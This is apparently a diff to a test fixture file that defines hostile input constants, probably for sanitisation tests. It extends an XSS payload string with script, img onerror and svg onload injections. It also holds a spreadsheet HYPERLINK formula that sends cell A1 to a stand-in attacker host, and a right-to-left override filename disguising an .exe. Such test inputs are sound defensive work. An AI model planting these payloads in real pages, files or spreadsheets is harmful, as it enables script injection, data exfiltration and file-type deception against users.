@@ -19,7 +19,7 @@ WIRE, HONEST_WIRE, SELLER, OUTLET, FRINGE = (
     "lantern-wire.example", "sakura-pr.example", "placemart.example", "nanto-daily.example", "saitama-leaf.example",
 )  # fmt: skip
 BLIND = "kobe-shut.example"
-HOSTILE = "<script>alert('x')</script><img src=x onerror=alert(1)>"
+HOSTILE = "<script>alert('x')</script><img src=x onerror=alert(1)><svg onload=alert(2)><script>alert(3)</script></svg>"
 FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"click")'
 BIDI = "safe\u202egnp.exe"
 
